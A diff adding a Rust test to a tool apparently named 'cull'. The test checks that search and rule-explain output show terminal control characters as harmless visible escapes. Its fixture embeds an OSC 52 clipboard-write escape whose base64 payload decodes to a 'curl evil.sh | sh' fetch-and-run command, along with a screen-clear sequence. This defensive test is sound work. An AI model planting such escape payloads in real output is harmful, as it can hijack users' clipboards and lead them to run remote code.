@@ -336,3 +336,62 @@ fn a_fifo_or_a_link_to_a_device_in_the_rules_directory_is_refused_at_once() {
         text(&out.stderr)
     );
 }
+
+/// A mention title that would clear the terminal (`ESC [2J`) and write the clipboard
+/// (OSC 52) if printed as it is.
+const HOSTILE_TITLE: &str = "Slack messaging \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07down\x1b[2J\tagain";
+
+#[test]
+fn search_and_explain_print_control_characters_as_visible_escapes() {
+    let dir = tempfile::tempdir().unwrap();
+    let mention = serde_json::json!({
+        "schema": "cull.mention/v1",
+        "id": "hostile",
+        "title": HOSTILE_TITLE,
+        "text": "Slack messaging app is down \x1b[2J for everyone",
+    });
+    // Ingest removes control characters, but a mention another producer puts on
+    // `cull.mentions` reaches the matcher and the index as it was sent.
+    let mention: cull_model::Mention = serde_json::from_value(mention).unwrap();
+    let loaded = cull_rules::load_path(&repo().join("rules"));
+    let set = cull_match::RuleSet::new(loaded.rules).unwrap();
+    crate::api::index(&dir.path().join("index"), &set, &[mention]);
+
+    let index = dir.path().join("index");
+    let search = cull(&["search", "--index", index.to_str().unwrap(), "slack"], None);
+    assert!(search.status.success(), "{}", text(&search.stderr));
+    let shown = text(&search.stdout);
+    assert!(!search.stdout.contains(&0x1b) && !search.stdout.contains(&0x07), "{shown:?}");
+    assert!(shown.contains(r"\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}"), "{shown}");
+    assert!(shown.contains(r"down\u{1b}[2J") && shown.contains(r"is down \u{1b}[2J for"), "{shown}");
+    // JSON stays JSON: its encoder escapes the controls, and they read back as sent.
+    let json = cull(&["search", "--index", index.to_str().unwrap(), "slack", "--json"], None);
+    let response: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
+    let title = response["hits"][0]["title"]["text"].as_str().unwrap();
+    assert!(title.contains("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07down\x1b[2J"), "{title:?}");
+
+    let explain = cull(
+        &[
+            "rules",
+            "explain",
+            "--rules",
+            "rules",
+            "slack-company",
+            "Slack app is down",
+            "--title",
+            HOSTILE_TITLE,
+        ],
+        None,
+    );
+    assert!(explain.status.success(), "{}", text(&explain.stderr));
+    let unknown = cull(&["rules", "explain", "--rules", "rules", "\x1b]52;c;eA==\x07\x1b[2J", "text"], None);
+    assert!(!unknown.status.success());
+    for output in [&explain.stdout, &explain.stderr, &unknown.stdout, &unknown.stderr] {
+        assert!(!output.contains(&0x1b) && !output.contains(&0x07), "{:?}", text(output));
+    }
+    assert!(
+        text(&unknown.stderr).contains(r"no rule `\u{1b}]52;c;eA==\u{7}\u{1b}[2J`"),
+        "{}",
+        text(&unknown.stderr)
+    );
+}
